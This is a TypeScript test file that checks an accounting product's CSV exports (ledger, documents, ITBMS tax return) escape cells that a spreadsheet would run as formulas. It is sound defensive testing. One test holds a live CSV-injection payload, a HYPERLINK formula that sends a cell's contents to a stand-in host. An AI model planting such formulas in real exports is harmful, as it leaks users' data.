import { describe, expect, it } from 'vitest';
import { type DocumentRow, documentCsvLine, type GlLineRow, glCsvLine } from '../src/formats.ts';
import { itbmsReturnCsvText } from '../src/tax-return/itbms-csv.ts';
import type { ItbmsReturnFigures } from '../src/tax-return/itbms-figures.ts';

// Every CSV the product writes (GL_CSV, DOCUMENTS_CSV, the ITBMS return's) opens in a spreadsheet,
// which runs a cell starting with = + - @ as a formula: a free-text field so starting gets a leading
// `'` (docs/architecture/posting.md, "Reports and exports"). Each text column of each format is
// given each start here; no cell may come out as a formula — only amounts start with a minus.

const books = { legalName: 'X', slug: 'x', baseCurrency: 'PAB', baseMinorUnits: 2 };
const STARTS = ['=', '+', '-', '@'];

/** Cells of one CSV line whose fields hold no comma or quote (the texts below hold none). */
const cells = (line: string) => line.replace(/\r\n$/, '').split(',');
const formulas = (text: string) =>
  text
    .split('\r\n')
    .flatMap(cells)
    .filter((cell) => /^[=+@]/.test(cell) || /^-(?!\d)/.test(cell));

const glRow = (text: (column: string) => string): GlLineRow => ({
  posting_date: '2026-06-03',
  entry_number: text('entry_number'),
  line_number: 1,
  account_code: text('account_code'),
  account_name: text('account_name'),
  account_type: 'ASSET',
  amount_minor: '-11000',
  original_currency: 'EUR',
  original_amount_minor: '-10000',
  party_code: text('party_code'),
  party_name: text('party_name'),
  entry_memo: text('entry_memo'),
  line_memo: text('line_memo'),
  source_kind: 'MANUAL',
  actual_posting_date: new Date('2026-06-03T15:00:00Z'),
  rate: '1.100000000000',
  rate_date: '2026-06-01',
  rate_source: text('rate_source'),
  rate_is_override: false,
  rate_is_fallback: false,
});

const documentRow = (text: (column: string) => string): DocumentRow => ({
  number: text('number'),
  kind: 'CUSTOMER_RECEIPT',
  status: 'POSTED',
  document_date: '2026-06-03',
  posting_date: '2026-06-03',
  due_date: null,
  party_code: text('party_code'),
  party_name: text('party_name'),
  currency: 'PAB',
  exchange_rate: '1.000000000000',
  subtotal_minor: '-500',
  tax_minor: '0',
  total_minor: '-500',
  base_total_minor: '-500',
  reference: text('reference'),
  memo: text('memo'),
  bank_fee_minor: '25',
  entry_number: text('entry_number'),
  void_entry_number: text('void_entry_number'),
  void_date: '2026-06-04',
  void_reason: text('void_reason'),
});

const figures: ItbmsReturnFigures = {
  year: 2026,
  month: 7,
  from: '2026-07-01',
  to: '2026-07-31',
  baseCurrency: 'PAB',
  minorUnits: 2,
  sales: [{ ratePercent: '7', baseMinor: -1000n, taxMinor: -70n }],
  exemptSalesMinor: 0n,
  creditNotesBaseMinor: 1000n,
  creditNotesTaxMinor: 70n,
  purchases: [],
  exemptPurchasesMinor: 0n,
  debitNotesBaseMinor: 0n,
  debitNotesTaxMinor: 0n,
  journalOutputTaxMinor: 0n,
  journalInputTaxMinor: 0n,
  outputTaxMinor: -70n,
  inputTaxMinor: 0n,
  creditBroughtForwardMinor: 0n,
  netPayableMinor: 0n,
  creditCarriedForwardMinor: 70n,
  glOutputTaxMinor: -70n,
  glInputTaxMinor: 0n,
  reconciles: true,
};

describe('no CSV cell is a formula', () => {
  for (const start of STARTS) {
    const text = (column: string) => `${start}${column}(A1)`;

    it(`GL_CSV: every text column starting with ${start}`, () => {
      const line = glCsvLine(glRow(text), books, () => 2);
      expect(formulas(line)).toEqual([]);
      expect(cells(line)[1]).toBe(`'${text('entry_number')}`);
    });

    it(`DOCUMENTS_CSV: every text column starting with ${start}, the number and entry numbers too`, () => {
      const line = documentCsvLine(documentRow(text), books, () => 2);
      expect(formulas(line)).toEqual([]);
      const row = cells(line);
      expect([row[0], row[19], row[23]]).toEqual([
        `'${text('number')}`,
        `'${text('entry_number')}`,
        `'${text('void_entry_number')}`,
      ]);
      // Amounts keep their sign: a credit is a number, not text.
      expect(row[10]).toBe('-5.00');
    });

    it(`the ITBMS return's CSV: the legal name starting with ${start}`, () => {
      const csv = itbmsReturnCsvText(figures, text('legal_name'));
      expect(formulas(csv)).toEqual([]);
      expect(csv).toContain(`client,,'${text('legal_name')},`);
      expect(csv).toContain('sales,7,-10.00,-0.70');
    });
  }

  it('DOCUMENTS_CSV: an imported number that is a live formula comes out as text, quoted', () => {
    const number = '=HYPERLINK("http://x.example/?"&A1,"open")';
    const line = documentCsvLine(
      documentRow((column) => (column === 'number' ? number : column)),
      books,
      () => 2,
    );
    expect(line.startsWith(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",`)).toBe(true);
  });
});
